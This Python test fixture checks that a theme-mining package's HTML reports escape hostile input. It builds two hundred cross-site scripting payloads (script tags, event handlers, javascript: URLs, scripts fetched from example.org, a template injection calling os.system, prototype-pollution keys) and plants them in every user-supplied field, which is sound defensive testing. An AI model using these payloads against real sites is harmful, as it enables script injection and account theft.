"""Two hundred texts that try to be run, fetched or drawn, made from families of known tricks; each calls `alert` with its number."""

from __future__ import annotations

from itertools import cycle, islice

import pandas as pd
from conftest import make_codebook, make_codings, make_corpus

from scrmine import Codebook, QualityCard
from scrmine.topics import Topics

EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbeforematch", "oncontentvisibilityautostatechange")
FAMILIES = (
    "<script>alert({n})</script>", "<SCRIPT SRC=//example.org/{n}.js></SCRIPT>", "<script type=module>import 'https://example.org/{n}.js'</script>",
    "</script><script>alert({n})</script>", "</style><script>alert({n})</script>", "</title><script>alert({n})</script>", "</textarea><script>alert({n})</script>",
    "--><script>alert({n})</script>", "]]><script>alert({n})</script>", "<!--<script>alert({n})", "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<img src=x {event}=alert({n})>", "<img src=x {event}='alert({n})' autofocus tabindex=1>", "<svg {event}=alert({n})>", "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>", "<math><mi//xlink:href='javascript:alert({n})'>", "<body {event}=alert({n})>", "<video src=x {event}=alert({n})>",
    "<details open {event}=alert({n})>", "<input autofocus {event}=alert({n})>", "<iframe src='javascript:alert({n})'></iframe>", "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<object data='javascript:alert({n})'></object>", "<embed src='javascript:alert({n})'>", "<a href='javascript:alert({n})'>x</a>", "<form action='javascript:alert({n})'><button>x",
    "<base href='//example.org/{n}/'>", "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>", "<meta http-equiv=Content-Security-Policy content='default-src *'>{n}",
    "<link rel=stylesheet href='//example.org/{n}.css'>", "<style>@import '//example.org/{n}.css';*{{background:url(//example.org/{n})}}</style>",
    '" {event}="alert({n})', "' {event}='alert({n})", "` {event}=`alert({n})", '"><img src=x {event}=alert({n})>', "'><img src=x {event}=alert({n})>",
    "javascript:alert({n})", "JaVaScRiPt:alert({n})//", "java\tscript:alert({n})", "data:text/html,<script>alert({n})</script>", "vbscript:msgbox({n})",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;script&#62;alert({n})&#60;/script&#62;", "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", "%3Cscript%3Ealert({n})%3C/script%3E",
    "';alert({n});//", '";alert({n});//', "`;alert({n});//", "${{alert({n})}}", "{{{{constructor.constructor('alert({n})')()}}}}", "{{% import os %}}{{{{ os.system({n}) }}}}", "[x](javascript:alert({n}))",
    "\u2028alert({n})\u2029", "\ufeff<script>alert({n})</script>", "\u202e<script>alert({n})</script>", "＜script＞alert({n})＜/script＞", "__proto__", "constructor", "hasOwnProperty",
    "<noscript><p title='</noscript><img src=x {event}=alert({n})>'>", "<template><script>alert({n})</script></template>", "<x contenteditable {event}=alert({n})>{n}", "#show&theme=<script>alert({n})</script>",
    '=HYPERLINK("https://example.org/{n}")', "<portal src=//example.org/{n}>", "<q/{event}=alert({n})>",
)
N, AT_ONCE = 200, 40
"""All of them; and those in one corpus, so that the table of themes × reviews stays small."""


def payloads() -> list[str]:
    """Two hundred different texts: each family with one event after the other, numbered."""
    made = [family.format(n=n, event=event) for n, (family, event) in enumerate(islice(zip(cycle(FAMILIES), cycle(EVENTS), strict=False), 3 * N))]
    return list(dict.fromkeys(made))[:N]


INERT = {
    "a", "article", "aside", "body", "br", "button", "caption", "circle", "code", "dd", "details", "div", "dl", "dt", "em", "footer", "h1", "h2", "h3", "h4", "head", "header", "html",
    "img", "input", "label", "li", "line", "main", "mark", "meta", "nav", "noscript", "ol", "option", "p", "progress", "script", "section", "select", "span", "strong", "style", "summary", "svg", "table",
    "tbody", "td", "tfoot", "th", "thead", "title", "tr", "ul",
}
"""The elements that the page is made of."""

VISIT = """async (addresses) => {
    const wrong = new Set();
    const look = function (within, address) {
        for (const element of document.querySelectorAll(within)) for (const { name, value } of element.attributes) {
            if (/^on|^srcdoc$|^action$|^formaction$|^style$/i.test(name)) wrong.add(address + ": " + name);
            if ((name === "href" || name === "src" || name === "xlink:href") && !/^(#|data:image\\/svg)/.test(value)) wrong.add(address + ": " + name + "=" + value);
        }
    };
    for (const address of addresses) {
        location.hash = address;
        await new Promise((go) => setTimeout(go, 1));
        look("#theme-body *, #review-body *, #compare-body *, #search-body *, aside *", address);
        if (location.hash.startsWith("#compare")) document.getElementById("compare-body").replaceChildren();
    }
    look("*", "all");
    return Array.from(wrong);
}"""
"""Opens addresses one after the other and looks at every attribute of what the script made there; at the end at those of the whole page."""


def bearing(texts):
    """Reviews, themes and topics that bear these payloads wherever a user's words can stand; each review has one passage of its own theme."""
    columns = {f"{texts[number]} {number}": number for number in range(len(texts) // 8)}
    reviews = [{"review_id": f"r{n} {text}", "board": text, "name": text, "year": 2010, **{column: texts[8 * number + n % 8] for column, number in columns.items()}} for n, text in enumerate(texts)]
    documents = [{"doc_id": f"d{n} {text}", "review_id": f"r{n} {text}", "title": text, "source_file": text, "note": text, "furniture": 0} for n, text in enumerate(texts)]
    passages = [{"doc_id": f"d{n} {text}", "text": f"{text} drift {text}", "section": text, "paragraph": text, "locator": text, "page": 1, "role": ("analysis", "comment")[n % 2]}
                for n, text in enumerate(texts)]
    corpus = make_corpus(documents, passages, reviews, metadata="given", read_from=texts[0])
    ids = corpus.passages["passage_id"].tolist()
    book = make_codebook(*((f"theme_{n}", "practice" if n % 2 else "case", text) for n, text in enumerate(texts)), name=texts[1])
    book = Codebook(texts[1], texts[2], book.table.assign(definition=texts, include=texts[::-1], exclude=texts, note=texts))
    codings = make_codings(corpus, [(passage_id, f"theme_{n}", "drift") for n, passage_id in enumerate(ids)]).assign(coder=texts[3])
    names = [f"t{n}" for n in range(len(texts))]
    topics = Topics(
        pd.DataFrame({"topic": names, "label": texts, "stability": 0.9, "lift": 2.0, "stable": True, "share": 1 / len(texts), "n_passages": 1, "terms": texts}),
        pd.DataFrame(0.0, index=ids, columns=names), corpus.passages[["passage_id", "review_id"]].assign(topic=names, loading=1.0),
        pd.DataFrame({"term": ["x"], "label": ["x"]}), None, {"method": texts[4]})
    for name, passage_id in zip(names, ids, strict=True):
        topics.loadings.loc[passage_id, name] = 1.0
    measured = {name: 0.5 for part in ("precision", "recall", "f1") for name in (part, f"{part}_low", f"{part}_high")}
    themes = pd.DataFrame({"theme": book.themes, "title": texts, "family": "practice", "n_people": 12, "n_coder": 14, **measured, "grade": "fair"})
    overall = pd.DataFrame({"measure": ["precision", "recall", "micro_f1"], "estimate": 0.5, "ci_low": 0.4, "ci_high": 0.6, "method": "x"})
    card = QualityCard(themes, overall, pd.DataFrame(), pd.DataFrame(), {"coder": texts[5], "measured_on": texts[6], "n_passages": 4, "n_reviews": 20, "n_codes": 12})
    return (corpus, codings, book), next(iter(columns)), topics, card
